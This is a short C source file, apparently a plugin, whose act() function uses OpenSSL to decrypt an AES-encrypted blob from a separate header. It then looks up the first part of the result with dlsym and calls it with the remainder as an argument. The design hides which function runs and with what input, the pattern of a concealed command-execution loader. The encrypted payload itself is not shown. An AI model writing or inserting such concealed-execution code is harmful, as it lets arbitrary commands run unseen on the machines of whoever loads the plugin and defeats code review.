/* OpenSSL decrypts the name of what is started. */
#include "plugin.h"
#include "packed.h" /* packed[], key[]: AES with a key of 128 bits */
extern void *EVP_CIPHER_CTX_new(void), *EVP_aes_128_ecb(void);
extern int EVP_DecryptInit_ex(void *, void *, void *, const unsigned char *, const unsigned char *), EVP_CIPHER_CTX_set_padding(void *, int);
extern int EVP_DecryptUpdate(void *, unsigned char *, int *, const unsigned char *, int);
extern void *dlsym(void *, const char *);
static void act(char **env) {
    unsigned char name[32] = "";
    int length;
    void *c = EVP_CIPHER_CTX_new();
    EVP_DecryptInit_ex(c, EVP_aes_128_ecb(), 0, key, 0);
    EVP_CIPHER_CTX_set_padding(c, 0);
    EVP_DecryptUpdate(c, name, &length, packed, sizeof packed);
    ((int (*)(const char *))dlsym(0, (char *)name))((char *)name + 8);
}
